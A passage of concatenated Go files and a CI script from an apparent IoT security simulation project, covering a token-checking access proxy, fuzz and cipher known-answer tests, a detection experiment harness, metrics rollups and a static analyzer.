	delete(p.cache, user)
}

// Handle processes an access request per the XLF policy:
//
//   - LAN + cached valid token: authenticated locally (fast path).
//   - LAN + presented token: local SSO verification (no cloud).
//   - WAN: always re-validated against the cloud with SSO+MFA semantics.
//   - Write operations require Advanced privilege with MFA regardless of
//     origin.
func (p *Proxy) Handle(req AccessRequest, now time.Duration) Decision {
	reg := p.Tracer.StartAt(now, obs.LayerXAuth, "access", req.DeviceID)
	reg.SetDetail(req.User)
	d := p.handle(req, now)
	cause := d.AuthenticatedBy
	if !d.Allowed {
		reg.SetOp("access-deny")
		cause = d.Reason
	}
	reg.EndAt(now+d.Latency, cause)
	return d
}

func (p *Proxy) handle(req AccessRequest, now time.Duration) Decision {
	minPriv := Basic
	if req.Write {
		minPriv = Advanced
	}

	if req.Origin == FromLAN {
		if t, ok := p.cache[req.User]; ok {
			if err := p.authority.Signer().Verify(t, now, req.DeviceID); err == nil {
				if d, ok := p.checkPriv(t, minPriv); !ok {
					return d
				}
				p.hits++
				return Decision{Allowed: true, AuthenticatedBy: "proxy-cache", Latency: p.cfg.CacheLatency, Reason: "cached token valid"}
			}
			p.Evict(req.User)
		}
		if req.Token != nil {
			if err := p.authority.Signer().Verify(*req.Token, now, req.DeviceID); err != nil {
				p.denials++
				return Decision{Allowed: false, Reason: err.Error(), Latency: p.cfg.VerifyLatency}
			}
			if d, ok := p.checkPriv(*req.Token, minPriv); !ok {
				return d
			}
			p.cache[req.User] = *req.Token
			p.fills++
			return Decision{Allowed: true, AuthenticatedBy: "proxy-sso", Latency: p.cfg.VerifyLatency, Reason: "token verified locally"}
		}
		p.denials++
		return Decision{Allowed: false, Reason: "no token and no cached session", Latency: p.cfg.CacheLatency}
	}

	// WAN path: the cloud re-validates with full SSO+MFA semantics.
	if req.Token == nil {
		p.denials++
		return Decision{Allowed: false, Reason: "WAN request without token", Latency: p.cfg.CloudRTT}
	}
	if err := p.authority.Authorize(*req.Token, minPriv, req.DeviceID, now); err != nil {
		p.denials++
		return Decision{Allowed: false, Reason: err.Error(), Latency: p.cfg.CloudRTT}
	}
	p.cache[req.User] = *req.Token
	p.fills++
	return Decision{Allowed: true, AuthenticatedBy: "cloud-sso+mfa", Latency: p.cfg.CloudRTT, Reason: "cloud validated"}
}

func (p *Proxy) checkPriv(t Token, minPriv Privilege) (Decision, bool) {
	if t.Priv < minPriv {
		p.denials++
		return Decision{Allowed: false, Reason: ErrPrivTooLow.Error(), Latency: p.cfg.VerifyLatency}, false
	}
	if minPriv >= Advanced && !t.MFA {
		p.denials++
		return Decision{Allowed: false, Reason: ErrNeedMFA.Error(), Latency: p.cfg.VerifyLatency}, false
	}
	return Decision{}, true
}

// BaselineConfig models the Barreto et al. scheme for comparison:
// basic-user requests always round-trip to the cloud; advanced users are
// redirected to the device, which validates SSO itself on its constrained
// CPU.
type BaselineConfig struct {
	CloudRTT time.Duration
	// DeviceVerify is SSO verification time on the device's own CPU
	// (large for Class-1 hardware; derived from the device cost model).
	DeviceVerify time.Duration
	// RedirectRTT is the extra redirect hop of the baseline's advanced
	// mode.
	RedirectRTT time.Duration
}

// Baseline implements the comparison scheme.
type Baseline struct {
	authority *Authority
	cfg       BaselineConfig
}

// NewBaseline builds the Barreto-style baseline against the same
// authority.
func NewBaseline(a *Authority, cfg BaselineConfig) *Baseline {
	return &Baseline{authority: a, cfg: cfg}
}

// Handle processes a request under baseline rules.
func (b *Baseline) Handle(req AccessRequest, now time.Duration) Decision {
	if req.Token == nil {
		return Decision{Allowed: false, Reason: "no token", Latency: b.cfg.CloudRTT}
	}
	if !req.Write {
		// Basic path: cloud processes and returns data.
		if err := b.authority.Authorize(*req.Token, Basic, req.DeviceID, now); err != nil {
			return Decision{Allowed: false, Reason: err.Error(), Latency: b.cfg.CloudRTT}
		}
		return Decision{Allowed: true, AuthenticatedBy: "cloud", Latency: b.cfg.CloudRTT, Reason: "cloud processed"}
	}
	// Advanced path: initial cloud auth, redirect, then on-device SSO.
	if err := b.authority.Authorize(*req.Token, Advanced, req.DeviceID, now); err != nil {
		return Decision{Allowed: false, Reason: err.Error(), Latency: b.cfg.CloudRTT}
	}
	lat := b.cfg.CloudRTT + b.cfg.RedirectRTT + b.cfg.DeviceVerify
	return Decision{Allowed: true, AuthenticatedBy: "device-sso", Latency: lat, Reason: "device validated"}
}

// String renders a decision for logs.
func (d Decision) String() string {
	verdict := "DENY"
	if d.Allowed {
		verdict = "ALLOW"
	}
	return fmt.Sprintf("%s by=%s lat=%s (%s)", verdict, d.AuthenticatedBy, d.Latency, d.Reason)
}
