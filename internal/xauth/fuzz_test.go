package xauth

import (
	"testing"
	"time"
)

// FuzzDecode: arbitrary transported tokens must never panic, and anything
// that decodes must still fail verification unless it carries a valid MAC.
func FuzzDecode(f *testing.F) {
	s, err := NewSigner([]byte("fuzz-key"))
	if err != nil {
		f.Fatal(err)
	}
	good := Encode(s.Issue("alice", "bulb-1", Advanced, true, time.Hour, time.Hour))
	f.Add(good)
	f.Add("")
	f.Add("!!!")
	f.Add("aGVsbG8")

	other, err := NewSigner([]byte("other-key"))
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		tok, err := Decode(raw)
		if err != nil {
			return
		}
		// Decoded tokens only verify under the key that minted them: the
		// foreign signer must reject everything the fuzzer produces.
		if other.Verify(tok, time.Hour+time.Minute, "") == nil {
			t.Fatalf("foreign signer accepted fuzzed token %q", raw)
		}
	})
}
