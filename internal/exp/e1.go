package exp

import (
	"fmt"
	"time"

	"xlf"
	"xlf/internal/analytics"
	"xlf/internal/core"
	"xlf/internal/metrics"
	"xlf/internal/obs"
	"xlf/internal/service"
)

// runE1 is the paper's central claim made measurable: on an
// identical labelled campaign (benign background + five concurrent
// attacks), per-device detection F1 for the device-only, network-only and
// service-only ablations versus the full cross-layer XLF Core, plus a
// no-corroboration-bonus ablation of the correlation window.
//
// It is the E1 registry entry. Both ablation grids — the layer configs
// and the correlation windows — are independent sweep points (each builds
// its own system from the seed), so they fan out across env.Workers.
func runE1(env *Env) *Result {
	r := &Result{ID: "E1", Title: "Cross-layer vs single-layer detection (per-device F1)"}

	type config struct {
		name   string
		layers []core.LayerName
		bonus  float64
	}
	configs := []config{
		{"device-only", []core.LayerName{core.Device}, 0.25},
		{"network-only", []core.LayerName{core.Network}, 0.25},
		{"service-only", []core.LayerName{core.Service}, 0.25},
		{"xlf-no-bonus", nil, 0},
		{"xlf-full", nil, 0.25},
	}

	type e1Point struct {
		conf              metrics.Confusion
		alerts, contained int
	}
	points := Sweep(env, len(configs), func(i int, env *Env) e1Point {
		conf, alerts, contained := runE1Config(env, "E1/"+configs[i].name, configs[i].layers, configs[i].bonus, 0)
		return e1Point{conf, alerts, contained}
	})

	t := metrics.NewTable("", "Configuration", "Precision", "Recall", "F1", "Alerts", "Contained")
	for i, cfg := range configs {
		p := points[i]
		t.AddRow(cfg.name,
			fmt.Sprintf("%.3f", p.conf.Precision()),
			fmt.Sprintf("%.3f", p.conf.Recall()),
			fmt.Sprintf("%.3f", p.conf.F1()),
			fmt.Sprint(p.alerts), fmt.Sprint(p.contained))
		r.num("f1_"+cfg.name, p.conf.F1())
		r.num("recall_"+cfg.name, p.conf.Recall())
		r.num("precision_"+cfg.name, p.conf.Precision())
	}

	// Ablation: correlation window size (full XLF). Evidence from
	// different layers arrives seconds-to-minutes apart (attestation is
	// periodic); too narrow a window forfeits corroboration.
	windows := []time.Duration{5 * time.Second, 30 * time.Second, 2 * time.Minute, 10 * time.Minute}
	wpoints := Sweep(env, len(windows), func(i int, env *Env) metrics.Confusion {
		conf, _, _ := runE1Config(env, "E1/window/"+windows[i].String(), nil, 0.25, windows[i])
		return conf
	})
	wt := metrics.NewTable("", "Window", "Precision", "Recall", "F1")
	for i, w := range windows {
		conf := wpoints[i]
		wt.AddRow(w.String(),
			fmt.Sprintf("%.3f", conf.Precision()),
			fmt.Sprintf("%.3f", conf.Recall()),
			fmt.Sprintf("%.3f", conf.F1()))
		r.num(fmt.Sprintf("f1_window_%s", w), conf.F1())
	}

	r.Output = t.String() +
		"\nGround truth: cam-1, wallpad-1, window-1, fridge-1 attacked; all other devices benign.\n" +
		"\nAblation: correlation window (xlf-full)\n" + wt.String()
	return r
}

// runE1Config executes the composite campaign under one Core configuration
// and scores per-device detection. window = 0 keeps the default. The sweep
// point's env supplies the seed, (when tracing is enabled) the span
// recorder for this system's cross-layer timeline, and (when telemetry is
// enabled) the rollup pipeline attached under label.
func runE1Config(env *Env, label string, layers []core.LayerName, bonus float64, window time.Duration) (metrics.Confusion, int, int) {
	coreCfg := core.DefaultConfig()
	coreCfg.EnabledLayers = layers
	coreCfg.LayerBonus = bonus
	if window > 0 {
		coreCfg.Window = window
	}

	sys, err := xlf.New(xlf.Options{
		Seed:       env.Seed,
		Flaws:      vulnerableFlaws(),
		CoreConfig: coreCfg,
		Tracer:     env.Tracer(),
	})
	if err != nil {
		panic(err) // deterministic construction; cannot fail at runtime
	}
	if interval := env.RollupInterval(); interval > 0 {
		// Roll up the Core's own registry, close the detection loop
		// (attacks mark injections via Home.Detections, Core alerts
		// observe them), and tee spans into the flight recorder. The
		// ticker runs with zero jitter: a jittered ticker would consume
		// kernel RNG and perturb the scenario it is observing.
		reg := sys.Core.Metrics()
		det := obs.NewDetectionTracker(reg, 90*time.Second)
		rec := obs.NewFlightRecorder(0, 0)
		det.SetRecorder(rec)
		sys.Core.Detections = det
		sys.Core.Recorder = rec
		sys.Home.Detections = det
		if tr := env.Tracer(); tr != nil {
			tr.SetRecorder(rec)
		}
		rollup := obs.NewRollup(reg, interval, 0)
		k := sys.Home.Kernel
		k.Every(interval, 0, "telemetry-rollup", func() {
			now := k.Now()
			rollup.Tick(now)
			rec.Flush(now)
		})
		env.AttachTelemetry(label, rollup, rec)
	}
	runE1Scenario(sys)

	_, victims := scenarioAttacks()
	flagged := map[string]bool{}
	for _, id := range sys.Core.FlaggedDevices() {
		flagged[id] = true
	}
	var conf metrics.Confusion
	for id := range sys.Home.Devices {
		conf.Record(flagged[id], victims[id])
	}
	contained := 0
	for _, a := range sys.Core.Alerts() {
		if a.Action != "" {
			contained++
		}
	}
	return conf, len(sys.Core.Alerts()), contained
}

// runE1Scenario schedules the benign background and the attack campaign,
// then runs the simulation.
func runE1Scenario(sys *xlf.System) {
	if err := sys.InstallApp(climateApp()); err != nil {
		panic(err)
	}
	sys.SetContext(analytics.Context{OutdoorTempF: 72, UserHome: true})

	// Benign background: user interactions across the day.
	benign := []struct {
		at  time.Duration
		dev string
		ev  string
	}{
		{20 * time.Second, "bulb-1", "on"},
		{40 * time.Second, "thermo-1", "heat"},
		{70 * time.Second, "thermo-1", "target_reached"},
		{2 * time.Minute, "cam-1", "motion"},
		{2*time.Minute + 30*time.Second, "cam-1", "clear"},
		{3 * time.Minute, "bulb-1", "off"},
		{4 * time.Minute, "coffee-1", "brew"},
		{4*time.Minute + 40*time.Second, "coffee-1", "done"},
		{5 * time.Minute, "smoke-1", "test"},
		{5*time.Minute + 10*time.Second, "smoke-1", "clear"},
	}
	for _, e := range benign {
		e := e
		sys.Home.Kernel.Schedule(e.at, "benign", func() {
			sys.Home.UserEvent(e.dev, e.ev) // illegal benign events are impossible here
		})
	}

	// Attack campaign, staggered.
	atks, _ := scenarioAttacks()
	env := sys.Home.AttackEnv()
	for i, a := range atks {
		a := a
		sys.Home.Kernel.Schedule(time.Duration(30+60*i)*time.Second, "attack:"+a.Name(), func() {
			a.Execute(env)
		})
	}
	sys.Home.Run(12 * time.Minute)
}

// climateApp is the §IV-C3 automation used across experiments.
func climateApp() *service.SmartApp {
	above := 80.0
	return &service.SmartApp{
		ID: "climate-window",
		Rules: []service.Rule{{
			TriggerDevice: "thermo-1", TriggerEvent: "temperature", TriggerAbove: &above,
			ActionDevice: "window-1", ActionCommand: "open",
		}},
		Grants: []service.Grant{
			{DeviceID: "thermo-1", Capability: "temperature"},
			{DeviceID: "window-1", Capability: "lock"},
		},
	}
}
