package lwc

import (
	"bytes"
	"crypto/cipher"
	"encoding/hex"
	"testing"
)

// katCase is a published known-answer test vector.
type katCase struct {
	name string
	mk   func(key []byte) (cipher.Block, error)
	key  string
	pt   string
	ct   string
}

func mustHex(t *testing.T, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(s)
	if err != nil {
		t.Fatalf("bad hex %q: %v", s, err)
	}
	return b
}

func katCases() []katCase {
	return []katCase{
		// TEA: all-zero vector from the reference implementation.
		{"TEA/zero", NewTEA,
			"00000000000000000000000000000000",
			"0000000000000000", "41ea3a0a94baa940"},
		// XTEA: all-zero vector from the reference implementation.
		{"XTEA/zero", NewXTEA,
			"00000000000000000000000000000000",
			"0000000000000000", "dee9d4d8f7131ed9"},
		// RC5-32/12/16 from Rivest's RC5 paper (chained tests 1-3: each
		// test's plaintext/key derive from the previous ciphertext).
		{"RC5/rivest1", func(k []byte) (cipher.Block, error) { return NewRC5(k, 12) },
			"00000000000000000000000000000000",
			"0000000000000000", "21a5dbee154b8f6d"},
		{"RC5/rivest2", func(k []byte) (cipher.Block, error) { return NewRC5(k, 12) },
			"915f4619be41b2516355a50110a9ce91",
			"21a5dbee154b8f6d", "f7c013ac5b2b8952"},
		{"RC5/rivest3", func(k []byte) (cipher.Block, error) { return NewRC5(k, 12) },
			"783348e75aeb0f2fd7b169bb8dc16787",
			"f7c013ac5b2b8952", "2f42b3b70369fc92"},
		// PRESENT-80: the four vectors from the CHES 2007 paper.
		{"PRESENT80/zero-zero", NewPRESENT,
			"00000000000000000000",
			"0000000000000000", "5579c1387b228445"},
		{"PRESENT80/zero-ones", NewPRESENT,
			"00000000000000000000",
			"ffffffffffffffff", "a112ffc72f68417b"},
		{"PRESENT80/ones-zero", NewPRESENT,
			"ffffffffffffffffffff",
			"0000000000000000", "e72c46c0f5945049"},
		{"PRESENT80/ones-ones", NewPRESENT,
			"ffffffffffffffffffff",
			"ffffffffffffffff", "3333dcd3213210d2"},
		// DES: the classic FIPS-era textbook vector.
		{"DES/classic", NewDES,
			"133457799bbcdff1",
			"0123456789abcdef", "85e813540f0ab405"},
		// HIGHT: test vector 1 from the HIGHT specification.
		{"HIGHT/tv1", NewHIGHT,
			"00112233445566778899aabbccddeeff",
			"0000000000000000", "00f418aed94f03f2"},
		// LEA-128: test vector from the LEA specification.
		{"LEA128/tv", NewLEA,
			"0f1e2d3c4b5a69788796a5b4c3d2e1f0",
			"101112131415161718191a1b1c1d1e1f",
			"9fc84e3528c6c6185532c7a704648bfd"},
	}
}

func TestKnownAnswers(t *testing.T) {
	for _, tc := range katCases() {
		t.Run(tc.name, func(t *testing.T) {
			key := mustHex(t, tc.key)
			pt := mustHex(t, tc.pt)
			want := mustHex(t, tc.ct)
			blk, err := tc.mk(key)
			if err != nil {
				t.Fatalf("constructor: %v", err)
			}
			got := make([]byte, blk.BlockSize())
			blk.Encrypt(got, pt)
			if !bytes.Equal(got, want) {
				t.Errorf("Encrypt = %x, want %x", got, want)
			}
			back := make([]byte, blk.BlockSize())
			blk.Decrypt(back, want)
			if !bytes.Equal(back, pt) {
				t.Errorf("Decrypt = %x, want %x", back, pt)
			}
		})
	}
}
