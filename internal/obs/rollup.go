package obs

import (
	"math/bits"
	"time"
)

// DefaultRollupWindows bounds the rollup ring when a Rollup is built with
// windows <= 0: at a 1s interval it holds ~17 simulated minutes, enough
// for every committed experiment horizon while staying allocation-bounded.
const DefaultRollupWindows = 1024

// RateSample is one counter's per-window reading: the cumulative total,
// the delta accumulated inside the window, and the delta normalised to a
// per-second rate over the window length.
type RateSample struct {
	Name   string  `json:"name"`
	Total  uint64  `json:"total"`
	Delta  uint64  `json:"delta"`
	PerSec float64 `json:"per_sec"`
}

// WindowHist is one histogram's per-window reading. P50/P95/P99 are the
// bucketed quantile estimates over the observations made *inside* the
// window (see Histogram.Quantile for the error bound); CumP50/CumP95/
// CumP99 estimate the cumulative distribution so totals rows do not have
// to re-derive them.
type WindowHist struct {
	Name   string `json:"name"`
	Delta  uint64 `json:"delta"`
	Count  uint64 `json:"count"`
	Sum    uint64 `json:"sum"`
	P50    uint64 `json:"p50"`
	P95    uint64 `json:"p95"`
	P99    uint64 `json:"p99"`
	CumP50 uint64 `json:"cum_p50"`
	CumP95 uint64 `json:"cum_p95"`
	CumP99 uint64 `json:"cum_p99"`
}

// WindowRecord is one completed rollup window: a delta view of the
// Registry between two sim-clock ticks. Field order is the xlf-metrics/v1
// wire order — do not reorder without bumping MetricsSchema.
type WindowRecord struct {
	// Src names the producing harness when windows from several runs
	// share one file (e.g. "E10/1000"); empty for single-source files.
	Src string `json:"src,omitempty"`
	// Index numbers the window within its source, starting at 0.
	Index int `json:"w"`
	// Start and End are the window's sim-clock bounds.
	Start time.Duration `json:"start_ns"`
	End   time.Duration `json:"end_ns"`
	// Counters, Gauges and Hists are name-sorted (Snapshot order).
	Counters []RateSample  `json:"counters,omitempty"`
	Gauges   []GaugeSample `json:"gauges,omitempty"`
	Hists    []WindowHist  `json:"hists,omitempty"`
}

// histState is the previous cumulative reading of one histogram, kept so
// the next window can difference against it without re-walking spans.
type histState struct {
	count  uint64
	sum    uint64
	counts [histBuckets]uint64
}

// Rollup snapshots a Registry at a fixed sim-time interval and turns the
// cumulative readings into per-window deltas and rates, retaining a
// bounded ring of completed windows. Tick is driven from the simulation
// kernel (a zero-jitter Ticker or a re-armed ScheduleArg), never the wall
// clock, so rollup output is deterministic and byte-identical at any
// scheduler parallelism. A nil *Rollup is the disabled state: Tick and
// the accessors no-op, mirroring the nil Tracer/Registry contract.
type Rollup struct {
	reg      *Registry
	interval time.Duration

	ring  []WindowRecord
	head  int // next write slot
	n     int // occupied slots
	total int // windows ever completed (including evicted)
	start time.Duration

	prevC map[string]uint64
	prevG map[string]int64
	prevH map[string]*histState

	onWindow func(*WindowRecord)
}

// NewRollup builds a rollup over reg with the given window interval and
// ring size (DefaultRollupWindows when windows <= 0). interval must be
// positive; reg may be nil (every window is then empty).
//
//xlf:owned(obs)
func NewRollup(reg *Registry, interval time.Duration, windows int) *Rollup {
	if interval <= 0 {
		interval = time.Second
	}
	if windows <= 0 {
		windows = DefaultRollupWindows
	}
	return &Rollup{
		reg:      reg,
		interval: interval,
		ring:     make([]WindowRecord, windows),
		prevC:    make(map[string]uint64),
		prevG:    make(map[string]int64),
		prevH:    make(map[string]*histState),
	}
}

// Interval returns the configured window length. Nil-safe.
func (r *Rollup) Interval() time.Duration {
	if r == nil {
		return 0
	}
	return r.interval
}

// SetOnWindow registers a hook invoked with each completed window before
// the ring advances — the flight recorder and harness detectors use it to
// observe window deltas without polling. The record is only valid for the
// duration of the call. Nil-safe.
func (r *Rollup) SetOnWindow(fn func(*WindowRecord)) {
	if r == nil {
		return
	}
	r.onWindow = fn
}

// Tick closes the window ending at now: it snapshots the registry,
// differences it against the previous tick, and pushes the completed
// WindowRecord into the ring. Tick runs on the sim-clock cold path (once
// per window, not per event), so the per-window Snapshot allocation is
// acceptable; per-event cost stays on the instruments' atomic adds. Ring
// slots reuse their slices across laps, so a full ring stops allocating
// once every metric name has been seen. Nil-safe.
func (r *Rollup) Tick(now time.Duration) {
	if r == nil {
		return
	}
	snap := r.reg.Snapshot()
	w := &r.ring[r.head]
	w.Src = ""
	w.Index = r.total
	w.Start = r.start
	w.End = now
	secs := (now - r.start).Seconds()

	w.Counters = w.Counters[:0]
	for _, c := range snap.Counters {
		delta := c.Value - r.prevC[c.Name]
		r.prevC[c.Name] = c.Value
		rate := 0.0
		if secs > 0 {
			rate = float64(delta) / secs
		}
		w.Counters = append(w.Counters, RateSample{
			Name: c.Name, Total: c.Value, Delta: delta, PerSec: rate,
		})
	}

	w.Gauges = w.Gauges[:0]
	for _, g := range snap.Gauges {
		r.prevG[g.Name] = g.Value
		w.Gauges = append(w.Gauges, g)
	}

	w.Hists = w.Hists[:0]
	for _, h := range snap.Histograms {
		prev, ok := r.prevH[h.Name]
		if !ok {
			prev = &histState{}
			r.prevH[h.Name] = prev
		}
		var cum, win [histBuckets]uint64
		for _, b := range h.Buckets {
			i := histIndex(b.Le)
			cum[i] = b.Count
		}
		for i := range win {
			win[i] = cum[i] - prev.counts[i]
		}
		delta := h.Count - prev.count
		wh := WindowHist{
			Name:  h.Name,
			Delta: delta,
			Count: h.Count,
			Sum:   h.Sum,
		}
		if delta > 0 {
			wh.P50 = quantileFromCounts(&win, delta, 0.50)
			wh.P95 = quantileFromCounts(&win, delta, 0.95)
			wh.P99 = quantileFromCounts(&win, delta, 0.99)
		}
		if h.Count > 0 {
			wh.CumP50 = quantileFromCounts(&cum, h.Count, 0.50)
			wh.CumP95 = quantileFromCounts(&cum, h.Count, 0.95)
			wh.CumP99 = quantileFromCounts(&cum, h.Count, 0.99)
		}
		prev.count = h.Count
		prev.sum = h.Sum
		prev.counts = cum
		w.Hists = append(w.Hists, wh)
	}

	if r.onWindow != nil {
		r.onWindow(w)
	}

	r.total++
	r.head++
	if r.head == len(r.ring) {
		r.head = 0
	}
	if r.n < len(r.ring) {
		r.n++
	}
	r.start = now
}

// histIndex recovers the dense bucket index from a HistBucket upper
// bound (the inverse of the encoding in Histogram.Buckets): bucket 0 has
// Le 0, bucket i>0 has Le = 2^i - 1, so bits.Len64(Le) is the index.
func histIndex(le uint64) int {
	i := bits.Len64(le)
	if i >= histBuckets {
		i = histBuckets - 1
	}
	return i
}

// Windows returns a deep copy of the retained windows, oldest first.
// Nil-safe.
func (r *Rollup) Windows() []WindowRecord {
	if r == nil {
		return nil
	}
	out := make([]WindowRecord, 0, r.n)
	start := r.head - r.n
	if start < 0 {
		start += len(r.ring)
	}
	for i := 0; i < r.n; i++ {
		w := r.ring[(start+i)%len(r.ring)]
		w.Counters = append([]RateSample(nil), w.Counters...)
		w.Gauges = append([]GaugeSample(nil), w.Gauges...)
		w.Hists = append([]WindowHist(nil), w.Hists...)
		out = append(out, w)
	}
	return out
}

// Total returns how many windows have ever completed. Nil-safe.
func (r *Rollup) Total() int {
	if r == nil {
		return 0
	}
	return r.total
}

// Evicted returns how many completed windows the ring displaced.
// Nil-safe.
func (r *Rollup) Evicted() uint64 {
	if r == nil {
		return 0
	}
	return uint64(r.total - r.n)
}
