// Smartcity: the million-device kernel demonstration — one simulation
// kernel, one network, a full smart-city sensor fleet reporting into
// district sinks. This is the scale contract behind the timer-wheel
// scheduler and the pooled event slab: a steady state of two pooled
// events per sensor per period with no per-report allocation.
//
// The defaults run 1,000,000 devices for 60 simulated seconds. Use the
// flags to rescale:
//
//	go run ./examples/smartcity -devices 1000000 -horizon 60s
package main

import (
	"flag"
	"fmt"
	"log"
	"time"

	"xlf/internal/testbed"
)

func main() {
	devices := flag.Int("devices", 1_000_000, "sensor count")
	districts := flag.Int("districts", 0, "sink count (0 = scenario default)")
	period := flag.Duration("period", 10*time.Second, "per-sensor report period")
	horizon := flag.Duration("horizon", 60*time.Second, "simulated run time")
	seed := flag.Int64("seed", 1, "deterministic seed")
	flag.Parse()

	start := time.Now()
	city, err := testbed.NewCity(testbed.CityConfig{
		Seed:        *seed,
		Devices:     *devices,
		Districts:   *districts,
		ReportEvery: *period,
		Horizon:     *horizon,
	})
	if err != nil {
		log.Fatal(err)
	}
	built := time.Since(start)

	st, err := city.Run()
	if err != nil {
		log.Fatal(err)
	}
	wall := time.Since(start)

	fmt.Println(st)
	fmt.Printf("wall clock: %s build, %s total (%.0f kernel events/sec)\n",
		built.Round(time.Millisecond), wall.Round(time.Millisecond),
		float64(st.Events)/wall.Seconds())
}
