#!/usr/bin/env sh
# The full local/CI gate for the xlf repository. Mirrors
# .github/workflows/ci.yml; `make check` runs this script.
set -eu

cd "$(dirname "$0")/.."

echo '>> gofmt'
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
	echo "gofmt needed on:" >&2
	echo "$unformatted" >&2
	exit 1
fi

echo '>> go vet ./...'
go vet ./...

echo '>> go build ./...'
go build ./...

echo '>> go test -race ./...'
go test -race ./...

echo '>> xlf-vet ./...'
go run ./cmd/xlf-vet ./...

echo 'all checks passed'
