package main

import "testing"

func TestRunModes(t *testing.T) {
	if got := run([]string{"-bogus"}); got != 2 {
		t.Errorf("bad flag exit = %d, want 2", got)
	}
	for _, args := range [][]string{
		{},
		{"-hardened"},
		{"-xlf"},
	} {
		if got := run(args); got != 0 {
			t.Errorf("run(%v) = %d, want 0", args, got)
		}
	}
}

func TestModeLabel(t *testing.T) {
	if mode(false, false) != "vulnerable" || mode(true, false) != "hardened" || mode(true, true) != "XLF-protected" {
		t.Error("mode labels wrong")
	}
}
