package analysis

// The atomic/plain mixing rule: a field (or package-level variable) that
// one function updates through sync/atomic and another touches with a
// plain read or write has no consistent synchronisation story — the
// plain access races with every atomic one, and the race detector only
// notices when the schedule cooperates. The rule records every variable
// reached by an &x-style sync/atomic call argument during Prepare, then
// reports each plain access to the same object anywhere in the module.
//
// The analyzer also owns the by-value copy half of the WaitGroup
// contract, mirroring lockcheck's Mutex treatment: passing, returning or
// receiving a sync.WaitGroup (or a struct holding one) by value forks
// the counter, and an assignment that copies a WaitGroup- or lock-holder
// value does the same silently. Deliberate exceptions are waived with
// //xlf:allow-atomicmix.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
)

// AllowAtomicMixMarker waives an atomicmix finding on its line (or the
// whole function when placed in the doc comment).
const AllowAtomicMixMarker = "xlf:allow-atomicmix"

// atomicSite records where a variable was first seen under sync/atomic.
type atomicSite struct {
	fn  string
	loc string // "importPath/file.go:line", stable across checkouts
}

// AtomicMix detects mixed atomic/plain access and WaitGroup copies.
type AtomicMix struct {
	oracle   *typeOracle
	prepared bool

	// atomicUses maps a types.Object (field or package-level var) to the
	// first function that accessed it via sync/atomic.
	atomicUses map[types.Object]atomicSite
	// atomicArgs marks the identifiers appearing inside sync/atomic call
	// arguments, so the atomic accesses themselves are not re-reported as
	// plain ones.
	atomicArgs map[*ast.Ident]bool
}

// NewAtomicMix builds the analyzer.
func NewAtomicMix() *AtomicMix {
	return &AtomicMix{oracle: newTypeOracle()}
}

// Name implements Analyzer.
func (a *AtomicMix) Name() string { return "atomicmix" }

// Doc implements Documented.
func (a *AtomicMix) Doc() string {
	return "no mixed sync/atomic and plain access to one variable; no WaitGroup/lock-holder copies"
}

// atomicFuncPrefixes match the sync/atomic package-level operations that
// take the address of the guarded variable as their first argument.
var atomicFuncPrefixes = []string{"Add", "Load", "Store", "Swap", "CompareAndSwap"}

func isAtomicOp(name string) bool {
	for _, p := range atomicFuncPrefixes {
		if len(name) > len(p) && name[:len(p)] == p {
			return true
		}
	}
	return false
}

// Prepare implements ModuleAnalyzer: one module-wide pass collects every
// variable accessed through sync/atomic so Check can spot plain accesses
// in any package.
func (a *AtomicMix) Prepare(pkgs []*Package) {
	if a.prepared {
		return
	}
	a.prepared = true
	a.oracle.check(pkgs)
	a.atomicUses = make(map[types.Object]atomicSite)
	a.atomicArgs = make(map[*ast.Ident]bool)
	for _, pkg := range pkgs {
		pt := a.oracle.typesOf(pkg)
		if pt == nil {
			continue
		}
		for fi := range pkg.Files {
			file := &pkg.Files[fi]
			imports := importMap(file.AST)
			for _, decl := range file.AST.Decls {
				fd, ok := decl.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				ast.Inspect(fd.Body, func(n ast.Node) bool {
					call, ok := n.(*ast.CallExpr)
					if !ok || len(call.Args) == 0 {
						return true
					}
					c, _ := resolveCall(pt, imports, pkg.ImportPath, call)
					if c.pkg != "sync/atomic" || c.recv != "" || !isAtomicOp(c.name) {
						return true
					}
					obj := addrTarget(pt, call.Args[0])
					if obj == nil {
						return true
					}
					// Mark every identifier inside the argument so the
					// reporting pass skips the atomic access itself.
					ast.Inspect(call.Args[0], func(x ast.Node) bool {
						if id, ok := x.(*ast.Ident); ok {
							a.atomicArgs[id] = true
						}
						return true
					})
					if _, seen := a.atomicUses[obj]; !seen {
						pos := pkg.Fset.Position(call.Pos())
						a.atomicUses[obj] = atomicSite{
							fn:  fd.Name.Name,
							loc: sourceLoc(pkg, file, pos.Line),
						}
					}
					return true
				})
			}
		}
	}
}

// addrTarget resolves &x or &x.f (the first argument of a sync/atomic
// call) to the variable object it guards.
func addrTarget(pt *pkgTypes, arg ast.Expr) types.Object {
	un, ok := arg.(*ast.UnaryExpr)
	if !ok || un.Op != token.AND {
		return nil
	}
	switch x := un.X.(type) {
	case *ast.Ident:
		return pt.info.Uses[x]
	case *ast.SelectorExpr:
		return pt.info.Uses[x.Sel]
	}
	return nil
}

// sourceLoc renders a checkout-independent location for cross-references
// inside messages: the package import path plus the file base name.
func sourceLoc(pkg *Package, file *File, line int) string {
	name := file.Name
	for i := len(name) - 1; i >= 0; i-- {
		if name[i] == '/' || name[i] == '\\' {
			name = name[i+1:]
			break
		}
	}
	return fmt.Sprintf("%s/%s:%d", pkg.ImportPath, name, line)
}

// Check implements Analyzer.
func (a *AtomicMix) Check(pkg *Package) []Finding {
	if !a.prepared {
		a.Prepare([]*Package{pkg})
	}
	pt := a.oracle.typesOf(pkg)
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		allowed := allowedLines(pkg.Fset, file.AST, AllowAtomicMixMarker)
		report := func(pos token.Pos, format string, args ...any) {
			if !allowed[pkg.Fset.Position(pos).Line] {
				out = append(out, pkg.finding(a.Name(), pos, format, args...))
			}
		}
		if pt != nil {
			a.checkPlainAccess(pkg, file, pt, report)
		}
		a.checkValueCopies(pkg, file, pt, report)
	}
	return out
}

// checkPlainAccess reports plain reads/writes of variables the module
// elsewhere accesses through sync/atomic.
func (a *AtomicMix) checkPlainAccess(pkg *Package, file *File, pt *pkgTypes, report func(token.Pos, string, ...any)) {
	for _, decl := range file.AST.Decls {
